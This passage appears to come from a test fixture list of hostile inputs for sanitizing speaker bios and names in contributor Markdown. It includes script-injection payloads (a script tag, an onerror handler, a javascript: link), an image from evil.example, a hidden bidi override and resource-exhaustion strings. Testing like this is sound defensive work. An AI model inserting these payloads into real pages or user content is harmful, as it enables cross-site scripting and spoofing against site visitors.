  aliases('bidi-name', 'people:\n  - name: "Jane \u202EeoD"\n    aliases: [Jane Doe]\n    note: a\ndistinct: []\n', 'a bidi override in a reviewed name'),
  // ── Speaker bios (contributor Markdown) ──
  bio('script', 'Bio.<script>alert(1)</script>', 'raw HTML in a bio'),
  bio('img-onerror', '<img src="x" onerror="alert(1)">', 'an image with a handler in a bio'),
  bio('javascript-link', '[site](javascript:alert(1))', 'a javascript: link in a bio'),
  bio('image', '![me](https://evil.example/me.png)', 'an image in a bio'),
  bio('nested-quotes', `${'> '.repeat(10000)}deep`, 'deeply nested quotes in a bio'),
  bio('nul', 'Bio with a NUL \u0000.', 'a NUL in a bio'),
  bio('bracket-storm', '[x]'.repeat(10_000), 'shortcut references repeated in a bio'),
];
